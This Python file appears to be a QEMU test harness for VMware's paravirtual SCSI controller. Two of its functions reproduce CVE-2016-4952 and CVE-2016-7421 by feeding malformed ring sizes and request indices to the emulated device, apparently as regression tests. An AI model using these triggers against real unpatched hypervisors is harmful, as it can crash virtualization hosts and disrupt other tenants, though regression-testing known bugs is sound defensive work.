# SPDX-License-Identifier: GPL-2.0
"""VMware's paravirtual SCSI controller"""

import struct

DEVICES = ("pvscsi", "scsi-hd,drive=disk,bus=dut.0")
BACKENDS = ("-blockdev driver=null-co,node-name=disk,read-zeroes=on",)
# COMMAND_STATUS
PROBE = 0, 0x8

COMMAND, COMMAND_DATA, KICK = 0x0, 0x4, 0x4018
SETUP_RINGS = 3
MOST_PAGES = 32


def setup(guest, pages):
    """Returns the address of the rings' state."""
    bar = guest.device.bars[0]
    state, ring = guest.alloc(4096), guest.alloc(4096)
    words = struct.pack("<IIQ", pages, 1, state >> 12)
    words += struct.pack("<Q", ring >> 12) * (2 * MOST_PAGES)
    bar.write(COMMAND, SETUP_RINGS)
    for (word,) in struct.iter_unpack("<I", words):
        bar.write(COMMAND_DATA, word)
    return state


def cve_2016_4952(guest):
    """The ring of requests has more pages than the command can name."""
    setup(guest, 1 << 20)


def cve_2016_7421(guest):
    """Nearly 2^32 requests are in a ring of 32."""
    state = setup(guest, 1)
    guest.put(state, struct.pack("<I", 0xfffffff0))
    guest.device.bars[0].write(KICK, 0)
